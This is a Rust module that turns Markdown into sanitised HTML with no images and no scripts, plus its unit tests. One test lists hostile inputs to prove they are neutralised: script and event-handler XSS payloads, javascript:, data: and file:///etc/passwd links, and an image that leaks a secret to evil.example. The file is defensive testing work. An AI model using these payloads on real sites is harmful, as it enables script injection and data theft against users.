//! Markdown as HTML that is safe to show: nothing in it runs, nothing in it is fetched.

use std::collections::{HashMap, HashSet};
use std::ops::Range;
use std::sync::LazyLock;

use ammonia::Builder;
use pulldown_cmark::{CowStr, Event, LinkType, Options, Parser, Tag, TagEnd, html::push_html};

/// One top-level block of a message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Block {
    pub html: String,
}

/// The top-level blocks of a Markdown text, each rendered and sanitised.
pub fn blocks(markdown: &str) -> Vec<Block> {
    let mut ranges: Vec<Range<usize>> = Vec::new();
    let mut depth = 0_usize;
    for (event, range) in Parser::new_ext(markdown, options()).into_offset_iter() {
        if depth == 0 && !matches!(event, Event::End(_)) {
            ranges.push(range);
        }
        match event {
            Event::Start(_) => depth += 1,
            Event::End(_) => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    ranges.into_iter().map(|range| Block { html: html(&markdown[range]) }).collect()
}

/// A whole Markdown text as sanitised HTML. `[[links]]` become `<a data-note="target">`.
pub fn html(markdown: &str) -> String {
    let mut dropped_image = 0_usize;
    let events = Parser::new_ext(markdown, options()).filter_map(|event| match event {
        // An image is a request that leaves the window: only its words are kept.
        Event::Start(Tag::Image { .. }) => {
            dropped_image += 1;
            None
        }
        Event::End(TagEnd::Image) => {
            dropped_image = dropped_image.saturating_sub(1);
            None
        }
        Event::Start(Tag::Link { link_type: LinkType::WikiLink { .. }, dest_url, .. }) => {
            Some(Event::InlineHtml(note_link(&dest_url)))
        }
        Event::Html(text) | Event::InlineHtml(text) => Some(Event::Text(text)),
        event => Some(event),
    });
    let mut out = String::new();
    push_html(&mut out, events);
    SANITISER.clean(&out).to_string()
}

fn options() -> Options {
    Options::ENABLE_TABLES
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_WIKILINKS
        | Options::ENABLE_YAML_STYLE_METADATA_BLOCKS
}

fn note_link(target: &str) -> CowStr<'static> {
    let mut escaped = String::new();
    for c in target.chars() {
        match c {
            '&' => escaped.push_str("&amp;"),
            '"' => escaped.push_str("&quot;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            c => escaped.push(c),
        }
    }
    CowStr::from(format!("<a data-note=\"{escaped}\">"))
}

static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from([
            "p",
            "br",
            "hr",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "em",
            "strong",
            "del",
            "code",
            "pre",
            "blockquote",
            "ul",
            "ol",
            "li",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "a",
            "sup",
            "div",
            "input",
        ]))
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href", "data-note"])),
            ("code", HashSet::from(["class"])),
            ("ol", HashSet::from(["start"])),
            ("input", HashSet::from(["type", "checked", "disabled"])),
        ]))
        .url_schemes(HashSet::from(["https", "http", "mailto"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"))
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            ("code", "class") => {
                let language = value.strip_prefix("language-")?;
                let plain = language.chars().all(|c| c.is_ascii_alphanumeric() || "+-_#.".contains(c));
                plain.then(|| value.into())
            }
            ("input", "type") => (value == "checkbox").then(|| value.into()),
            _ => Some(value.into()),
        });
    builder
});

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_is_a_list_of_blocks() {
        let found: Vec<String> = blocks("# Hi\n\nOne *two*.\n\n- a\n- b\n\n| x |\n|---|\n| 1 |\n")
            .into_iter()
            .map(|b| b.html)
            .collect();
        assert_eq!(found.len(), 4, "{found:?}");
        assert_eq!(found[0].trim(), "<h1>Hi</h1>");
        assert_eq!(found[1].trim(), "<p>One <em>two</em>.</p>");
        assert!(found[2].contains("<li>a</li>"), "{}", found[2]);
        assert!(found[3].contains("<td>1</td>"), "{}", found[3]);
    }

    #[test]
    fn note_links_keep_their_target_and_their_words() {
        assert_eq!(
            html("See [[Jane Doe]].").trim(),
            "<p>See <a data-note=\"Jane Doe\" rel=\"noopener noreferrer\">Jane Doe</a>.</p>"
        );
        assert_eq!(
            html("[[CRM/People/Jane Doe#Log|J]]").trim(),
            "<p><a data-note=\"CRM/People/Jane Doe#Log\" rel=\"noopener noreferrer\">J</a></p>"
        );
    }

    #[test]
    fn nothing_runs_and_nothing_is_fetched() {
        let hostile = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![x](https://evil.example/?leak=secret)",
            "[x](javascript:alert(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](file:///etc/passwd)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<svg onload=alert(1)>",
            "<style>body{background:url(https://evil.example)}</style>",
            "<iframe src=https://evil.example></iframe>",
            "[[x\" onclick=\"alert(1)]]",
            "<https://evil.example/\" onmouseover=\"alert(1)>",
            "```x\" onclick=\"alert(1)\ncode\n```",
        ];
        for markdown in hostile {
            let html = html(markdown).to_lowercase();
            // Text may name these things (its `<` is escaped); a tag or an attribute may not.
            for tag in html.split('<').skip(1).filter_map(|part| part.split('>').next()) {
                let name = tag.trim_start_matches('/').split_whitespace().next().unwrap_or_default();
                let harmless = ["p", "a", "em", "strong", "code", "pre"].contains(&name);
                assert!(harmless, "{markdown} became {html}");
                for address in ["javascript:", "data:", "file:"] {
                    assert!(!tag.contains(address), "{markdown} became {html}");
                }
                let unquoted: String = tag.split('"').step_by(2).collect();
                for attribute in ["onerror", "onclick", "onload", "onmouseover", "src", "style"] {
                    assert!(!unquoted.contains(&format!(" {attribute}")), "{markdown} became {html}");
                }
            }
        }
    }

    #[test]
    fn code_keeps_its_language() {
        assert!(html("```rust\nfn x() {}\n```").contains("<code class=\"language-rust\">"));
    }
}
